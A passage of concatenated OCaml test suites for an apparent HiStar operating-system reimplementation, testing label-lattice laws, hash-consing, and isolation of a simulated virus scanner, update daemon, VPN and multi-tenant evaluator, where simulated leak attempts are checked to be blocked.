         identity test below spawns the persistent Par worker domains,
         and idle domains add stop-the-world jitter that would skew a
         5%-bar timing test on a small host. *)
      ( "overhead",
        [
          Alcotest.test_case "instrumented path reports" `Quick
            test_instrumentation_reports;
          Alcotest.test_case "disabled instrumentation near-free" `Slow
            test_disabled_overhead;
        ] );
      ( "runner",
        [
          Alcotest.test_case "all workloads run at smoke size" `Quick
            test_workloads_smoke;
          Alcotest.test_case "trajectory is schema-valid" `Quick
            test_suite_validates;
          Alcotest.test_case "validation rejects tampering" `Quick
            test_validate_rejects_tampering;
          Alcotest.test_case "trajectory is deterministic" `Quick
            test_suite_deterministic;
          Alcotest.test_case "trajectory identical across --jobs" `Quick
            test_suite_jobs_identical;
          Alcotest.test_case "wall_ms excluded from comparisons" `Quick
            test_wall_ms_excluded;
          Alcotest.test_case "gate IPC elision ratio" `Quick
            test_ipc_elision_ratio;
        ] );
    ]
