open Histar_label

let cat = Category.of_int
let lbl entries d = Label.of_list entries d
let label_t = Alcotest.testable Label.pp Label.equal
let level_t = Alcotest.testable Level.pp Level.equal

(* The paper's running example (§2): L = {w0, r3, 1}. *)
let w = cat 1
let r = cat 2
let v = cat 3

let test_paper_example () =
  let l = lbl [ (w, Level.L0); (r, Level.L3) ] Level.L1 in
  Alcotest.check level_t "L(w)=0" Level.L0 (Label.get l w);
  Alcotest.check level_t "L(r)=3" Level.L3 (Label.get l r);
  Alcotest.check level_t "L(other)=1" Level.L1 (Label.get l v)

let test_normalization () =
  let l = Label.set (lbl [ (w, Level.L0) ] Level.L1) w Level.L1 in
  Alcotest.check label_t "set to default removes entry" (Label.make Level.L1) l;
  Alcotest.(check int) "no entries" 0 (List.length (Label.entries l))

let test_leq_basics () =
  let t = Label.make Level.L1 in
  let o_more = lbl [ (v, Level.L3) ] Level.L1 in
  let o_less = lbl [ (v, Level.L0) ] Level.L1 in
  (* §2: thread {1} cannot read {c3,1}, cannot write {c0,1} *)
  Alcotest.(check bool) "more tainted not ⊑ thread" false (Label.leq o_more t);
  Alcotest.(check bool) "thread ⊑ more tainted" true (Label.leq t o_more);
  Alcotest.(check bool) "thread not ⊑ less tainted" false (Label.leq t o_less);
  Alcotest.(check bool) "less tainted ⊑ thread" true (Label.leq o_less t)

let test_observe_modify () =
  let thread = Label.make Level.L1 in
  let tainted = lbl [ (v, Level.L3) ] Level.L1 in
  let integrity = lbl [ (v, Level.L0) ] Level.L1 in
  Alcotest.(check bool) "cannot observe more tainted" false
    (Label.can_observe ~thread ~obj:tainted);
  Alcotest.(check bool) "cannot modify low-integrity" false
    (Label.can_modify ~thread ~obj:integrity);
  Alcotest.(check bool) "can observe low-integrity" true
    (Label.can_observe ~thread ~obj:integrity);
  (* Ownership bypasses both. *)
  let owner = lbl [ (v, Level.Star) ] Level.L1 in
  Alcotest.(check bool) "owner observes tainted" true
    (Label.can_observe ~thread:owner ~obj:tainted);
  Alcotest.(check bool) "owner modifies low-integrity" true
    (Label.can_modify ~thread:owner ~obj:integrity)

let test_star_j_shift () =
  (* §2.2: if L = {a*, bJ, 1} then L^J = {aJ, bJ, 1}, L^* = {a*, b*, 1} *)
  let a = cat 10 and b = cat 11 in
  let l =
    Label.set (Label.set (Label.make Level.L1) a Level.Star) b Level.J
  in
  Alcotest.check label_t "raise_j"
    (lbl [ (a, Level.J); (b, Level.J) ] Level.L1)
    (Label.raise_j l);
  Alcotest.check label_t "lower_star"
    (lbl [ (a, Level.Star); (b, Level.Star) ] Level.L1)
    (Label.lower_star l)

let test_taint_to_read () =
  (* To observe O labeled {v3,1}, thread {1} must raise to {v3,1}. *)
  let thread = Label.make Level.L1 in
  let obj = lbl [ (v, Level.L3) ] Level.L1 in
  let raised = Label.taint_to_read ~thread ~obj in
  Alcotest.check label_t "minimal taint" obj raised;
  (* An owner of v keeps its star after tainting to read. *)
  let owner = lbl [ (v, Level.Star) ] Level.L1 in
  let raised = Label.taint_to_read ~thread:owner ~obj in
  Alcotest.check level_t "ownership preserved" Level.Star (Label.get raised v)

let test_taint_to_read_satisfies_both () =
  let thread = lbl [ (w, Level.L0) ] Level.L1 in
  let obj = lbl [ (v, Level.L3); (r, Level.L2) ] Level.L1 in
  let raised = Label.taint_to_read ~thread ~obj in
  Alcotest.(check bool) "L_T ⊑ L'_T" true (Label.leq thread raised);
  Alcotest.(check bool) "L_O ⊑ L'_T^J" true
    (Label.can_observe ~thread:raised ~obj)

let test_wrap_scenario () =
  (* Figure 4: the ClamAV port label configuration. *)
  let br = cat 20 and bw = cat 21 and vv = cat 22 in
  let user_data = lbl [ (bw, Level.L0); (br, Level.L3) ] Level.L1 in
  let wrap = lbl [ (br, Level.Star); (vv, Level.Star) ] Level.L1 in
  let scanner = lbl [ (br, Level.L3); (vv, Level.L3) ] Level.L1 in
  let update_daemon = Label.make Level.L1 in
  let network = Label.make Level.L1 in
  Alcotest.(check bool) "wrap reads user data" true
    (Label.can_observe ~thread:wrap ~obj:user_data);
  Alcotest.(check bool) "scanner reads user data" true
    (Label.can_observe ~thread:scanner ~obj:user_data);
  Alcotest.(check bool) "update daemon cannot read user data" false
    (Label.can_observe ~thread:update_daemon ~obj:user_data);
  (* Information tainted v3 cannot flow to the untainted network. *)
  Alcotest.(check bool) "scanner output cannot reach network" false
    (Label.can_flow ~src:scanner ~dst:network);
  (* wrap, owning v, can untaint: scanner ⊑ wrap^J. *)
  Alcotest.(check bool) "wrap can receive scanner output" true
    (Label.leq scanner (Label.raise_j wrap))

let test_validity () =
  let obj = lbl [ (v, Level.L3) ] Level.L1 in
  let thr = lbl [ (v, Level.Star) ] Level.L1 in
  Alcotest.(check bool) "object label valid" true (Label.is_object_label obj);
  Alcotest.(check bool) "star not object label" false (Label.is_object_label thr);
  Alcotest.(check bool) "star storable" true (Label.is_storable thr);
  Alcotest.(check bool) "J not storable" false
    (Label.is_storable (Label.raise_j thr))

let test_codec_roundtrip () =
  let l = lbl [ (w, Level.L0); (r, Level.L3); (v, Level.Star) ] Level.L2 in
  let e = Histar_util.Codec.Enc.create () in
  Label.encode e l;
  let d = Histar_util.Codec.Dec.of_string (Histar_util.Codec.Enc.to_string e) in
  Alcotest.check label_t "round-trip" l (Label.decode d)

let test_pp () =
  let l = lbl [ (w, Level.L0) ] Level.L1 in
  Alcotest.(check string) "paper notation" "{c1 0, 1}" (Label.to_string l)

(* ---------- qcheck: lattice laws ---------- *)

let gen_level_storable =
  QCheck2.Gen.oneofl Level.[ Star; L0; L1; L2; L3 ]

let gen_level_numeric = QCheck2.Gen.oneofl Level.[ L0; L1; L2; L3 ]

let gen_label =
  let open QCheck2.Gen in
  let* d = gen_level_numeric in
  let* n = int_bound 4 in
  let* entries =
    list_size (return n)
      (pair (map cat (int_bound 7)) gen_level_storable)
  in
  return (Label.of_list entries d)

let prop name gen f = QCheck2.Test.make ~name ~count:500 gen f

let qcheck_tests =
  let open QCheck2.Gen in
  [
    prop "leq reflexive" gen_label (fun l -> Label.leq l l);
    prop "leq antisymmetric" (pair gen_label gen_label) (fun (a, b) ->
        if Label.leq a b && Label.leq b a then Label.equal a b else true);
    prop "leq transitive" (triple gen_label gen_label gen_label)
      (fun (a, b, c) ->
        if Label.leq a b && Label.leq b c then Label.leq a c else true);
    prop "lub is upper bound" (pair gen_label gen_label) (fun (a, b) ->
        let u = Label.lub a b in
        Label.leq a u && Label.leq b u);
    prop "lub is least" (triple gen_label gen_label gen_label)
      (fun (a, b, c) ->
        if Label.leq a c && Label.leq b c then Label.leq (Label.lub a b) c
        else true);
    prop "glb is lower bound" (pair gen_label gen_label) (fun (a, b) ->
        let g = Label.glb a b in
        Label.leq g a && Label.leq g b);
    prop "glb is greatest" (triple gen_label gen_label gen_label)
      (fun (a, b, c) ->
        if Label.leq c a && Label.leq c b then Label.leq c (Label.glb a b)
        else true);
    prop "lub commutative" (pair gen_label gen_label) (fun (a, b) ->
        Label.equal (Label.lub a b) (Label.lub b a));
    prop "lub associative" (triple gen_label gen_label gen_label)
      (fun (a, b, c) ->
        Label.equal (Label.lub a (Label.lub b c)) (Label.lub (Label.lub a b) c));
    prop "lub idempotent" gen_label (fun a -> Label.equal (Label.lub a a) a);
    prop "absorption" (pair gen_label gen_label) (fun (a, b) ->
        Label.equal (Label.lub a (Label.glb a b)) a);
    prop "raise_j . lower_star stable on storable" gen_label (fun a ->
        Label.equal
          (Label.lower_star (Label.raise_j a))
          (Label.lower_star (Label.raise_j (Label.lower_star (Label.raise_j a)))));
    prop "taint_to_read is minimal" (pair gen_label gen_label)
      (fun (thread, obj) ->
        let raised = Label.taint_to_read ~thread ~obj in
        Label.leq thread raised && Label.can_observe ~thread:raised ~obj);
    prop "lattice distributivity" (triple gen_label gen_label gen_label)
      (fun (a, b, c) ->
        Label.equal
          (Label.glb a (Label.lub b c))
          (Label.lub (Label.glb a b) (Label.glb a c)));
    prop "raise_j is extensive" gen_label (fun a ->
        (* ⋆ < everything < J, so lifting ⋆ to J can only go up *)
        Label.leq a (Label.raise_j a));
    prop "lower_star . raise_j identity on star-free" gen_label (fun a ->
        if Label.has_star a then true
        else Label.equal (Label.lower_star (Label.raise_j a)) a);
    prop "codec round-trip" gen_label (fun l ->
        let e = Histar_util.Codec.Enc.create () in
        Label.encode e l;
        let d =
          Histar_util.Codec.Dec.of_string (Histar_util.Codec.Enc.to_string e)
        in
        Label.equal l (Label.decode d));
    prop "can_modify implies can_observe" (pair gen_label gen_label)
      (fun (thread, obj) ->
        if Label.can_modify ~thread ~obj then Label.can_observe ~thread ~obj
        else true);
  ]

(* ---------- histar_check: the same algebra through the in-tree
   engine, with integrated shrinking so a lattice-law violation shrinks
   to a minimal pair of labels. ---------- *)

module Gen = Histar_check.Gen
module Check = Histar_check.Check

let gen_level_storable' = Gen.choose Level.[ L0; L1; L2; L3; Star ]
let gen_level_numeric' = Gen.choose Level.[ L0; L1; L2; L3 ]

(* Small category pool so generated labels collide on categories, which
   is where leq/lub/glb actually have to merge entries. *)
let gen_label' =
  let open Gen in
  let* d = gen_level_numeric' in
  let* n = int_range 0 4 in
  let* entries =
    list_len n (pair (map cat (int_range 0 7)) gen_level_storable')
  in
  return (Label.of_list entries d)

let pp_label l = Label.to_string l
let pp2 (a, b) = Printf.sprintf "(%s, %s)" (pp_label a) (pp_label b)

let pp3 (a, b, c) =
  Printf.sprintf "(%s, %s, %s)" (pp_label a) (pp_label b) (pp_label c)

let check_tests =
  let open Gen in
  [
    Check.test_case ~print:pp_label "leq reflexive" gen_label' (fun l ->
        Check.ensure (Label.leq l l));
    Check.test_case ~print:pp2 "leq antisymmetric" (pair gen_label' gen_label')
      (fun (a, b) ->
        if Label.leq a b && Label.leq b a then
          Check.ensure ~msg:"leq both ways but not equal" (Label.equal a b));
    Check.test_case ~print:pp3 "leq transitive"
      (triple gen_label' gen_label' gen_label')
      (fun (a, b, c) ->
        if Label.leq a b && Label.leq b c then
          Check.ensure ~msg:"a ⊑ b ⊑ c but not a ⊑ c" (Label.leq a c));
    Check.test_case ~print:pp2 "lub least upper bound"
      (pair gen_label' gen_label')
      (fun (a, b) ->
        let u = Label.lub a b in
        Check.ensure ~msg:"not an upper bound" (Label.leq a u && Label.leq b u));
    Check.test_case ~print:pp3 "lub minimality"
      (triple gen_label' gen_label' gen_label')
      (fun (a, b, c) ->
        if Label.leq a c && Label.leq b c then
          Check.ensure ~msg:"lub above another upper bound"
            (Label.leq (Label.lub a b) c));
    Check.test_case ~print:pp3 "glb maximality"
      (triple gen_label' gen_label' gen_label')
      (fun (a, b, c) ->
        let g = Label.glb a b in
        Check.ensure ~msg:"not a lower bound" (Label.leq g a && Label.leq g b);
        if Label.leq c a && Label.leq c b then
          Check.ensure ~msg:"glb below another lower bound" (Label.leq c g));
    Check.test_case ~print:pp2 "lub/glb commute" (pair gen_label' gen_label')
      (fun (a, b) ->
        Check.ensure (Label.equal (Label.lub a b) (Label.lub b a));
        Check.ensure (Label.equal (Label.glb a b) (Label.glb b a)));
    Check.test_case ~print:pp2 "taint_to_read minimal sufficient"
      (pair gen_label' gen_label')
      (fun (thread, obj) ->
        let raised = Label.taint_to_read ~thread ~obj in
        Check.ensure ~msg:"thread label lowered" (Label.leq thread raised);
        Check.ensure ~msg:"still cannot observe"
          (Label.can_observe ~thread:raised ~obj));
    Check.test_case ~print:pp2 "ownership survives taint_to_read"
      (pair gen_label' gen_label')
      (fun (thread, obj) ->
        let raised = Label.taint_to_read ~thread ~obj in
        List.iter
          (fun (c, lv) ->
            if Level.equal lv Level.Star then
              Check.ensure ~msg:"⋆ lost while tainting"
                (Level.equal (Label.get raised c) Level.Star))
          (Label.entries thread));
    Check.test_case ~print:pp_label "star-free raise_j/lower_star identity"
      gen_label' (fun a ->
        if not (Label.has_star a) then
          Check.ensure (Label.equal (Label.lower_star (Label.raise_j a)) a));
  ]

(* ---------- hash-consing: interning and memoized operators ----------

   Labels are interned in a weak table: structural equality coincides
   with pointer equality ([Label.equal] is [==]), and leq/lub/glb are
   memoized on interned uids. These properties pin down the soundness
   side: memoization and interning must be observationally invisible
   next to the naive pointwise algebra and the reference model's
   assoc-list one. *)

module Mlabel = Histar_model.Mlabel

let mlabel_of l =
  let ents, d = Label.ranked l in
  Mlabel.of_entries ents d

let canon_m l = (Mlabel.entries l, Mlabel.default l)

let hashcons_tests =
  let open Gen in
  [
    Check.test_case ~print:pp2 "pointer equality iff structural equality"
      (pair gen_label' gen_label')
      (fun (a, b) ->
        Check.ensure ~msg:"equal/ranked disagree"
          (Label.equal a b = (Label.ranked a = Label.ranked b)));
    Check.test_case ~print:pp_label "of_list reconstructs the same pointer"
      gen_label' (fun a ->
        Check.ensure (Label.equal (Label.of_list (Label.entries a) (Label.default a)) a));
    Check.test_case ~print:pp2 "memoized leq agrees with naive"
      (pair gen_label' gen_label')
      (fun (a, b) ->
        Check.ensure (Label.leq a b = Label.leq_naive a b);
        Check.ensure (Label.leq b a = Label.leq_naive b a));
    Check.test_case ~print:pp2 "memoized lub/glb agree with naive"
      (pair gen_label' gen_label')
      (fun (a, b) ->
        Check.ensure (Label.equal (Label.lub a b) (Label.lub_naive a b));
        Check.ensure (Label.equal (Label.glb a b) (Label.glb_naive a b)));
    Check.test_case ~print:pp2 "memoized ops agree with Mlabel"
      (pair gen_label' gen_label')
      (fun (a, b) ->
        let ma = mlabel_of a and mb = mlabel_of b in
        Check.ensure ~msg:"leq" (Label.leq a b = Mlabel.leq ma mb);
        Check.ensure ~msg:"lub"
          (Label.ranked (Label.lub a b) = canon_m (Mlabel.lub ma mb));
        Check.ensure ~msg:"glb"
          (Label.ranked (Label.glb a b) = canon_m (Mlabel.glb ma mb)));
  ]

let test_intern_single_allocation () =
  (* Categories no other test touches, so the first build is the only
     allocation; every later build — reordered, with shadowed
     duplicate entries, or through set — must return the same value
     without growing the intern table. *)
  let c1 = cat 910001 and c2 = cat 910002 in
  let a = lbl [ (c1, Level.L3); (c2, Level.Star) ] Level.L1 in
  let n = Label.interned_count () in
  let b = lbl [ (c2, Level.Star); (c1, Level.L3) ] Level.L1 in
  let c = lbl [ (c1, Level.L0); (c1, Level.L3); (c2, Level.Star) ] Level.L1 in
  Alcotest.(check bool) "reordered entries intern to the same label" true
    (Label.equal b a);
  Alcotest.(check bool) "of_list keeps the last duplicate entry" true
    (Label.equal c a);
  Alcotest.(check int) "no new interned values" n (Label.interned_count ());
  let via_set = Label.set (Label.set (Label.make Level.L1) c1 Level.L3) c2 Level.Star in
  Alcotest.(check bool) "set chain reaches the interned label" true
    (Label.equal via_set a)

let () =
  Alcotest.run "histar_label"
    [
      ( "label",
        [
          Alcotest.test_case "paper example" `Quick test_paper_example;
          Alcotest.test_case "normalization" `Quick test_normalization;
          Alcotest.test_case "leq basics" `Quick test_leq_basics;
          Alcotest.test_case "observe/modify" `Quick test_observe_modify;
          Alcotest.test_case "star/J shift" `Quick test_star_j_shift;
          Alcotest.test_case "taint to read" `Quick test_taint_to_read;
          Alcotest.test_case "taint satisfies both sides" `Quick
            test_taint_to_read_satisfies_both;
          Alcotest.test_case "wrap scenario (Fig 4)" `Quick test_wrap_scenario;
          Alcotest.test_case "validity" `Quick test_validity;
          Alcotest.test_case "codec" `Quick test_codec_roundtrip;
          Alcotest.test_case "printing" `Quick test_pp;
        ] );
      ("lattice laws", List.map QCheck_alcotest.to_alcotest qcheck_tests);
      ("lattice laws (histar_check)", check_tests);
      ( "hash-consing",
        hashcons_tests
        @ [
            Alcotest.test_case "single allocation per distinct label" `Quick
              test_intern_single_allocation;
          ] );
    ]
