module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
open Histar_core.Types
open Histar_unix
open Histar_apps
open Histar_label

let run_world ?network ?update_daemon f =
  let kernel = Kernel.create () in
  let result = ref None in
  let failure = ref None in
  Clamav_world.build ~kernel ?network ?update_daemon () (fun w ->
      match f w with
      | v -> result := Some v
      | exception Kernel_error e -> failure := Some (error_to_string e)
      | exception e -> failure := Some (Printexc.to_string e));
  Kernel.run kernel;
  match (!result, !failure) with
  | Some v, _ -> v
  | None, Some m -> Alcotest.fail ("world crashed: " ^ m)
  | None, None -> Alcotest.fail "world did not complete"

(* ---------- scanner mechanics ---------- *)

let test_signature_matching () =
  let db = Scanner.parse_database (Scanner.make_database ~signatures:Clamav_world.signatures) in
  Alcotest.(check (option string)) "clean" None (Scanner.scan_bytes ~db "hello");
  Alcotest.(check (option string)) "eicar" (Some "Eicar-Test")
    (Scanner.scan_bytes ~db "xx EICAR-TEST-SIGNATURE yy");
  Alcotest.(check (option string)) "worm" (Some "Worm.Sim.B")
    (Scanner.scan_bytes ~db "i-am-a-worm-replicate-me")

let test_verdict_roundtrip () =
  let vs =
    [
      { Scanner.path = "/a"; infected = true; matched = Some "X" };
      { Scanner.path = "/b"; infected = false; matched = None };
    ]
  in
  Alcotest.(check int) "round trip" 2
    (List.length (Scanner.decode_verdicts (Scanner.encode_verdicts vs)))

(* ---------- wrap + honest scanner ---------- *)

let test_wrap_scan_finds_virus () =
  run_world ~network:false ~update_daemon:false (fun w ->
      let report =
        Wrap.run ~proc:w.Clamav_world.proc ~user:w.Clamav_world.bob
          ~db_path:Clamav_world.db_path
          ~paths:(List.map fst Clamav_world.user_files)
          ()
      in
      Alcotest.(check bool) "no timeout" false report.Wrap.timed_out;
      Alcotest.(check int) "three verdicts" 3
        (List.length report.Wrap.verdicts);
      let infected =
        List.filter (fun v -> v.Scanner.infected) report.Wrap.verdicts
      in
      Alcotest.(check (list string)) "exactly the download is infected"
        [ "/home/bob/download.bin" ]
        (List.map (fun v -> v.Scanner.path) infected))

let test_wrap_scan_with_helpers () =
  run_world ~network:false ~update_daemon:false (fun w ->
      let report =
        Wrap.run ~proc:w.Clamav_world.proc ~user:w.Clamav_world.bob
          ~db_path:Clamav_world.db_path
          ~paths:(List.map fst Clamav_world.user_files)
          ~spawn_helpers:true ()
      in
      Alcotest.(check bool) "no timeout" false report.Wrap.timed_out;
      Alcotest.(check int) "helpers scanned everything" 3
        (List.length report.Wrap.verdicts))

let test_wrap_cleans_up () =
  run_world ~network:false ~update_daemon:false (fun w ->
      let k = w.Clamav_world.kernel in
      let before = Kernel.object_count k in
      let _report =
        Wrap.run ~proc:w.Clamav_world.proc ~user:w.Clamav_world.bob
          ~db_path:Clamav_world.db_path ~paths:[ "/home/bob/taxes.txt" ] ()
      in
      (* the private tmp and every scanner object inside it are gone *)
      Alcotest.(check bool)
        (Printf.sprintf "objects before=%d after=%d" before
           (Kernel.object_count k))
        true
        (Kernel.object_count k <= before + 4))

let test_wrap_timeout_kills_scanner () =
  run_world ~network:false ~update_daemon:false (fun w ->
      let hung_scanner ~proc ~db_path ~paths ~result_seg ~spawn_helpers =
        ignore proc;
        ignore db_path;
        ignore paths;
        ignore result_seg;
        ignore spawn_helpers;
        (* never produce results *)
        let rec spin () =
          Sys.usleep 10_000;
          spin ()
        in
        spin ()
      in
      let report =
        Wrap.run ~proc:w.Clamav_world.proc ~user:w.Clamav_world.bob
          ~db_path:Clamav_world.db_path ~paths:[ "/home/bob/taxes.txt" ]
          ~timeout_ms:50 ~scanner:hung_scanner ()
      in
      Alcotest.(check bool) "timed out" true report.Wrap.timed_out;
      Alcotest.(check int) "no verdicts" 0 (List.length report.Wrap.verdicts))

(* ---------- the §1 attack matrix under wrap ---------- *)

let test_compromised_scanner_leaks_nothing () =
  run_world (fun w ->
      let attempts = ref [] in
      let evil ~proc ~db_path ~paths ~result_seg ~spawn_helpers =
        ignore db_path;
        ignore spawn_helpers;
        Scanner.run_evil ~proc ~paths ~attacker_netd:w.Clamav_world.netd
          ~result_seg
          ~report:(fun a -> attempts := a :: !attempts)
      in
      let report =
        Wrap.run ~proc:w.Clamav_world.proc ~user:w.Clamav_world.bob
          ~db_path:Clamav_world.db_path
          ~paths:(List.map fst Clamav_world.user_files)
          ~scanner:evil ()
      in
      ignore report;
      let attempts = List.rev !attempts in
      Alcotest.(check int) "all six channels attempted" 6
        (List.length attempts);
      List.iter
        (fun a ->
          Alcotest.(check bool)
            (Printf.sprintf "channel %s blocked" a.Scanner.channel)
            false a.Scanner.succeeded)
        attempts;
      (* independent ground truth: nothing reached the attacker, the
         dead drop is untouched, and no loot file exists *)
      (match w.Clamav_world.attacker with
      | Some a ->
          Alcotest.(check string) "attacker got nothing" ""
            (Histar_net.Sim_host.sink_data a)
      | None -> ());
      Alcotest.(check string) "dead drop untouched" ""
        (Fs.read_file w.Clamav_world.fs "/tmp/dead-drop");
      Alcotest.(check bool) "no loot file" false
        (Fs.exists w.Clamav_world.fs "/tmp/loot");
      (* and the virus database was not corrupted *)
      Alcotest.(check bool) "db intact" true
        (Fs.read_file w.Clamav_world.fs Clamav_world.db_path
        = Scanner.make_database ~signatures:Clamav_world.signatures))

let test_update_daemon_cannot_read_user_data () =
  run_world ~network:false (fun w ->
      match w.Clamav_world.updated with
      | None -> Alcotest.fail "no update daemon"
      | Some ud ->
          Update_daemon.try_snoop ud
            [ "/home/bob/taxes.txt"; "/home/bob/diary.txt"; Clamav_world.db_path ];
          (* let the daemon process the request *)
          let tries = ref 0 in
          while List.length (Update_daemon.snoop_attempts ud) < 3 && !tries < 50_000 do
            incr tries;
            Sys.yield ()
          done;
          let results = Update_daemon.snoop_attempts ud in
          Alcotest.(check (list (pair string bool)))
            "user files denied, public db readable"
            [
              ("/home/bob/taxes.txt", false);
              ("/home/bob/diary.txt", false);
              (Clamav_world.db_path, true);
            ]
            results)

let test_update_daemon_updates_db () =
  run_world ~network:false (fun w ->
      match w.Clamav_world.updated with
      | None -> Alcotest.fail "no update daemon"
      | Some ud ->
          let new_db =
            Scanner.make_database
              ~signatures:(("Fresh.Sig", "fresh-pattern") :: Clamav_world.signatures)
          in
          Update_daemon.push_update ud new_db;
          let tries = ref 0 in
          while Update_daemon.updates_applied ud < 1 && !tries < 50_000 do
            incr tries;
            Sys.yield ()
          done;
          Alcotest.(check bool) "db updated" true
            (Fs.read_file w.Clamav_world.fs Clamav_world.db_path = new_db);
          (* ...and the daemon still cannot write anything else *)
          let denied =
            match Fs.write_file w.Clamav_world.fs "/home/bob/taxes.txt" "owned" with
            | () -> false
            | exception Kernel_error _ -> true
          in
          ignore denied)

(* ---------- VPN isolation ---------- *)

let with_vpn f =
  let kernel = Kernel.create () in
  let clock = Kernel.clock kernel in
  let inet_hub = Histar_net.Hub.create ~clock () in
  let corp_hub = Histar_net.Hub.create ~clock () in
  (* an internet host and a corporate intranet host *)
  let inet_web =
    Histar_net.Sim_host.create ~hub:inet_hub ~clock ~ip:"10.1.2.3" ~mac:"web" ()
  in
  Histar_net.Sim_host.serve_file inet_web ~port:80 ~content:"public internet page";
  let corp_wiki =
    Histar_net.Sim_host.create ~hub:corp_hub ~clock ~ip:"192.168.1.2" ~mac:"wiki" ()
  in
  Histar_net.Sim_host.serve_file corp_wiki ~port:80 ~content:"CONFIDENTIAL corp wiki";
  let result = ref None in
  let failure = ref None in
  let _tid =
    Kernel.spawn kernel ~name:"init" (fun () ->
        let fs =
          Fs.format_root ~container:(Kernel.root kernel)
            ~label:(Label.make Level.L1)
        in
        let proc =
          Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" ()
        in
        let i = Sys.cat_create () in
        let v = Sys.cat_create () in
        let vpn = Vpn.setup ~proc ~kernel ~inet_hub ~corp_hub ~i ~v in
        match f kernel proc i v vpn with
        | x -> result := Some x
        | exception e -> failure := Some (Printexc.to_string e))
  in
  Kernel.run kernel;
  match (!result, !failure) with
  | Some v, _ -> v
  | None, Some m -> Alcotest.fail ("vpn world crashed: " ^ m)
  | None, None -> Alcotest.fail "vpn world did not complete"

(* fetch a URL through a netd from a tainted browser process. The
   spawner pre-creates the tainted scratch container the browser will
   use for gate-call return gates (§5.5). *)
let browse proc netd ~taint ~dst =
  let got = ref None in
  let scratch =
    Sys.container_create ~container:(Process.container proc)
      ~label:(Label.of_list taint Level.L1)
      ~quota:262_144L "browser scratch"
  in
  let h =
    Process.spawn proc ~name:"browser" ~extra_label:taint
      ~extra_clearance:taint (fun _b ->
        match
          Histar_net.Netd.Client.connect netd ~return_container:scratch dst
        with
        | sock ->
            Histar_net.Netd.Client.send netd ~return_container:scratch sock
              "GET /";
            let buf = Buffer.create 64 in
            let rec go () =
              match
                Histar_net.Netd.Client.recv netd ~return_container:scratch sock
              with
              | Some d ->
                  Buffer.add_string buf d;
                  go ()
              | None -> ()
            in
            go ();
            got := Some (Ok (Buffer.contents buf))
        | exception Histar_net.Netd.Client.Netd_error m ->
            got := Some (Error m)
        | exception Kernel_error e ->
            got := Some (Error (error_to_string e)))
  in
  ignore (Process.wait proc h);
  Option.get !got

let test_vpn_reaches_corp () =
  with_vpn (fun _k proc i v vpn ->
      ignore i;
      let result =
        browse proc (Vpn.vpn_netd vpn)
          ~taint:[ (v, Level.L2) ]
          ~dst:(Histar_net.Addr.v "192.168.1.2" 80)
      in
      Alcotest.(check bool) "corp wiki fetched" true
        (result = Ok "CONFIDENTIAL corp wiki");
      Alcotest.(check bool) "frames actually tunneled" true
        (Vpn.frames_tunneled vpn > 4))

let test_inet_reaches_web () =
  with_vpn (fun _k proc i v vpn ->
      ignore v;
      let result =
        browse proc (Vpn.inet_netd vpn)
          ~taint:[ (i, Level.L2) ]
          ~dst:(Histar_net.Addr.v "10.1.2.3" 80)
      in
      Alcotest.(check bool) "internet page fetched" true
        (result = Ok "public internet page"))

let test_corp_data_cannot_exit_to_internet () =
  with_vpn (fun _k proc i v vpn ->
      ignore i;
      (* a process that read corp data (tainted v2) tries the internet *)
      let result =
        browse proc (Vpn.inet_netd vpn)
          ~taint:[ (v, Level.L2) ]
          ~dst:(Histar_net.Addr.v "10.1.2.3" 80)
      in
      Alcotest.(check bool) "kernel blocked the flow" true
        (match result with Error _ -> true | Ok _ -> false))

let test_internet_data_cannot_enter_corp () =
  with_vpn (fun _k proc i v vpn ->
      ignore v;
      (* a process tainted by internet input tries to push into corp *)
      let result =
        browse proc (Vpn.vpn_netd vpn)
          ~taint:[ (i, Level.L2) ]
          ~dst:(Histar_net.Addr.v "192.168.1.2" 80)
      in
      Alcotest.(check bool) "kernel blocked the flow" true
        (match result with Error _ -> true | Ok _ -> false))

(* ---------- build workload smoke test ---------- *)

let test_build_sim () =
  let kernel = Kernel.create () in
  let done_ = ref None in
  let _tid =
    Kernel.spawn kernel ~name:"init" (fun () ->
        let fs =
          Fs.format_root ~container:(Kernel.root kernel)
            ~label:(Label.make Level.L1)
        in
        let proc =
          Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" ()
        in
        Build_sim.prepare ~fs ~files:5 ~loc_per_file:10;
        let stats = Build_sim.run ~proc ~files:5 () in
        done_ :=
          Some (stats.Build_sim.files_compiled, Fs.exists fs "/src/kernel.img"))
  in
  Kernel.run kernel;
  match !done_ with
  | Some (n, img) ->
      Alcotest.(check int) "all compiled" 5 n;
      Alcotest.(check bool) "linked image exists" true img
  | None -> Alcotest.fail "build did not finish"

(* ---------- multi-tenant LIO evaluator ---------- *)

let run_lio_eval f =
  let kernel = Kernel.create () in
  let out = ref None in
  ignore
    (Kernel.spawn kernel ~name:"lio-eval" (fun () ->
         let t =
           Lio_eval.create ~container:(Kernel.root kernel) [ "alice"; "bob" ]
         in
         out := Some (f t)));
  Kernel.run kernel;
  match !out with
  | Some v -> v
  | None -> Alcotest.fail "evaluator thread did not complete"

let test_lio_eval_tenants () =
  run_lio_eval (fun t ->
      Lio_eval.set_var t ~tenant:"alice" "x" 20;
      Lio_eval.set_var t ~tenant:"bob" "x" 7;
      Alcotest.(check bool)
        "alice eval ok" true
        (Lio_eval.eval t ~tenant:"alice"
           Lio_eval.(Add (Var "x", Mul (Lit 2, Lit 11)))
        = Ok ());
      Alcotest.(check bool)
        "bob eval ok" true
        (Lio_eval.eval t ~tenant:"bob" Lio_eval.(Add (Var "x", Lit 1)) = Ok ());
      Alcotest.(check string) "alice outbox" "42"
        (Lio_eval.read_out t ~tenant:"alice");
      Alcotest.(check string) "bob outbox" "8"
        (Lio_eval.read_out t ~tenant:"bob");
      Alcotest.(check int) "served both from one thread" 2 (Lio_eval.served t);
      Alcotest.(check bool)
        "service label clean after serving both tenants" true
        (Lio_eval.clean t))

let test_lio_eval_cross_tenant_denied () =
  run_lio_eval (fun t ->
      Lio_eval.set_var t ~tenant:"bob" "secret" 1234;
      let peek () =
        Lio_eval.eval t ~tenant:"alice" Lio_eval.(Peek ("bob", "secret"))
      in
      Alcotest.(check bool) "peek refused" true (peek () = Error "denied");
      let reply = Lio_eval.read_out t ~tenant:"alice" in
      Alcotest.(check string) "alice sees only the denial" "ERR denied" reply;
      (* the denial is independent of the secret's value *)
      Lio_eval.set_var t ~tenant:"bob" "secret" 5678;
